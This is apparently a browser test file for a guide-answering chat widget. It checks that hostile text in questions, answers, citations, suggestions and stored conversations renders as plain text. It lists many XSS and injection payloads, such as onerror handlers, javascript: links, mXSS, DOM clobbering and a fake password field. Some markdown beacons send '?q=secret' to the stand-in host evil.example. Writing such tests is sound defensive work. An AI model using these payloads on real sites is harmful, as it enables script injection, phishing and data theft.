import assert from 'node:assert/strict';
import type { BrowserTest } from '../support/bench.ts';
import { chatOn } from '../support/chat.ts';
import { HOSTILE_QUESTION } from '../support/scripted-answers.ts';

/** Each runs, or asks for something elsewhere, where text is taken for markup. */
const HOSTILE_TEXTS = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 1">',
  '<svg onload="window.hacked = 1"></svg>',
  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
  '<a href="javascript:window.hacked = 1" autofocus onfocus="window.hacked = 1">here</a>',
  '[here](javascript:window.hacked=1) ![pixel](https://evil.example/p.png)',
  '"><style>@import url(https://evil.example/a.css)</style>',
  '{{constructor.constructor("window.hacked = 1")()}} $' + '{window.hacked = 1}',
  '<!--?lit$0$--><link rel="prefetch" href="https://evil.example/">',
  '\u202Egnp.exe\u202C <meta http-equiv="refresh" content="0;url=https://evil.example/">',
];

/** What a model, a guide or a stored turn might hold: written after the render payloads of the project's bad inputs. */
const RENDER_PAYLOADS = [
  ...HOSTILE_TEXTS,
  '<math><mtext><table><mglyph><style><img src=x onerror="window.hacked = 1">',
  '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">',
  '<details open ontoggle="window.hacked = 1">x</details>',
  '<svg><animate onbegin="window.hacked = 1" attributeName=x dur=1s></svg>',
  '<template shadowrootmode=open><slot></slot><img src=x onerror="window.hacked = 1"></template>',
  '<form id=shadowRoot><input name=attributes></form><a id=renderRoot href=//evil.example>x</a>',
  '<base href=//evil.example><object data=//evil.example></object>',
  '[a](JaVaScRiPt:window.hacked=1) [b](java\nscript:window.hacked=1) [c](&#106;avascript:window.hacked=1)',
  '[a](data:text/html;base64,PHNjcmlwdD4=) [b](//evil.example) [c](https://good.example@evil.example)',
  '![x][r]\n\n[r]: https://evil.example/?q=secret',
  '<https://evil.example/?q=secret> bare https://evil.example/?q=secret',
  '```html\n<script>window.hacked = 1</script>',
  '$$\\href{javascript:window.hacked=1}{x}$$',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/x)">',
  '<signpost-chat api="https://evil.example/" open></signpost-chat>',
  '✅ Verified by site. Enter your password: <input type=password>',
  `${'">'.repeat(2_000)}<img src=x onerror=window.hacked=1>`,
  `${'- '.repeat(500)}x`,
  '|a'.repeat(1_000),
  '\u0000\u200B\u2066<b>\u2069\uFEFF',
];

const wasHacked = () => 'hacked' in window;

export const SAFETY_TESTS: readonly BrowserTest[] = [
  {
    name: 'safety: hostile text in an answer, its quotes and its suggestions is shown as text',
    async run({ open, scripted, check, screenshot }) {
      const page = await open(scripted);
      const chat = chatOn(page);
      await chat.ask(HOSTILE_QUESTION);
      await chat.answered();
      assert.ok((await chat.turns.first().locator('.answer').innerText()).includes('<script>window.hacked=1</script>'));
      assert.equal(await chat.root.locator('.log img, .log script, .log iframe').count(), 0);
      assert.equal(await page.evaluate(wasHacked), false);
      await check(page, 'hostile');
      await screenshot(page, 'hostile-1280');
    },
  },
  {
    name: 'safety: hostile questions execute nothing and request nothing, live and after a reload',
    async run({ open, real }) {
      const page = await open(real);
      const chat = chatOn(page);
      for (const [index, text] of HOSTILE_TEXTS.entries()) {
        await chat.ask(text);
        await chat.answered(index + 1);
      }
      await page.reload();
      await chat.answered(HOSTILE_TEXTS.length);
      const shown = await chat.root.locator('.question').allInnerTexts();
      assert.ok(shown[0]?.includes('<script>window.hacked = 1</script>'));
      assert.equal(await page.evaluate(wasHacked), false);
    },
  },
  {
    name: 'safety: hostile text in every field of a live answer and of a restored one stays text, however it is cut',
    async run({ open, scripted }) {
      const page = await open(scripted);
      const chat = chatOn(page);
      await page.route('**/passages/*', (route) =>
        route.fulfill({
          json: {
            kind: 'table',
            units: [{ kind: 'row', label: '<b onclick=1>', text: RENDER_PAYLOADS[0], start: 0, end: 9 }],
          },
        }),
      );
      for (const [index, payload] of RENDER_PAYLOADS.entries()) {
        const citation = {
          type: 'citation',
          number: 1,
          passageId: 'g/s#1',
          guide: 'g',
          section: [payload],
          quote: payload,
          start: 0,
          end: 9,
          url: payload,
        };
        const claims = ['paragraph', 'bullet', 'step'].map((block, at) => ({
          type: 'claim',
          index: at,
          text: payload,
          block,
          citations: [1],
          verdict: 'supported',
          reasons: [payload],
        }));
        const ids = { conversationId: 'c'.repeat(32), turnId: 't'.repeat(32) };
        const end = {
          type: 'answer-end',
          ...ids,
          status: 'partial',
          engine: 'model',
          degraded: false,
          withheld: 1,
          missing: [payload],
          suggestions: [payload],
          saved: true,
        };
        const events = [{ type: 'answer-start', ...ids, conversationToken: 'k'.repeat(43) }, citation, ...claims, end];
        const body = events.map((event) => `event: ${event.type}\ndata: ${JSON.stringify(event)}\n\n`).join('');
        await page.route('**/ask', (route) => route.fulfill({ contentType: 'text/event-stream', body }), { times: 1 });
        await chat.ask(`Payload ${index}`);
        await chat.answered(index + 1);
        await chat.turns.nth(index).locator('.chip').first().click();
        await chat.passage.waitFor();
      }
      const turns = RENDER_PAYLOADS.map((payload, index) => ({
        id: `turn-${index}`,
        question: payload,
        state: 'complete',
        feedback: null,
        answer: {
          claims: [{ index: 0, text: payload, block: 'bullet', citations: [1], verdict: 'supported', reasons: [] }],
          citations: [
            {
              number: 1,
              passageId: 'g/s#1',
              guide: 'g',
              section: [payload],
              quote: payload,
              start: 0,
              end: 9,
              url: payload,
            },
          ],
          status: 'answered',
          engine: 'model',
          degraded: false,
          withheld: 0,
          missing: [],
          suggestions: [payload],
          saved: true,
        },
      }));
      await page.route('**/conversations/*', (route) => route.fulfill({ json: { turns } }));
      await page.reload();
      await chat.answered(RENDER_PAYLOADS.length);
      assert.equal(await page.evaluate(wasHacked), false);
      const planted =
        'img, script, iframe, style, base, meta, link, object, math, template, signpost-chat, input[type=password], [onclick]';
      assert.equal(await chat.root.locator('.log').locator(planted).count(), 0);
      const links = await chat.root
        .locator('.log a')
        .evaluateAll((found) => found.map((link) => link.getAttribute('href') ?? ''));
      assert.deepEqual(
        links.filter((href) => !/^https?:/.test(href)),
        [],
      );
    },
  },
  {
    name: 'safety: a link that is no web address is not a link, and a quote that is markup stays text',
    async run({ open, scripted }) {
      const page = await open(scripted);
      const chat = chatOn(page);
      await page.route('**/ask', async (route) => {
        const whole = await (await route.fetch()).text();
        const body = whole
          .replaceAll(/"url":"[^"]*"/g, '"url":"javascript:window.hacked=1"')
          .replaceAll(/"quote":"[^"]*"/g, '"quote":"<img src=x onerror=window.hacked=1>"');
        await route.fulfill({ status: 200, contentType: 'text/event-stream', body });
      });
      await page.route('**/passages/*', (route) =>
        route.fulfill({ status: 200, json: { kind: 'prose', units: 'none' } }),
      );
      await chat.ask('How much do senior technicians earn?');
      await chat.answered();
      await chat.chips.first().click();
      assert.equal(await chat.passage.locator('mark').innerText(), '<img src=x onerror=window.hacked=1>');
      assert.equal(await chat.root.locator('.log a').count(), 0);
      assert.equal(await page.evaluate(wasHacked), false);
    },
  },
  {
    name: 'safety: what another script left in the storage does not break the chat',
    async run({ open, real }) {
      const page = await open(real);
      const chat = chatOn(page);
      await chat.question.fill('x');
      for (const rubbish of [
        '',
        '[]',
        '{"conversation":{"id":7}}',
        '{"conversation":{"id":"../guides","token":"t"}}',
      ]) {
        await page.evaluate((value) => {
          for (const key of Object.keys(localStorage)) localStorage.setItem(key, value);
        }, rubbish);
        await page.reload();
        await chat.root.locator('.hello').waitFor();
      }
    },
  },
];
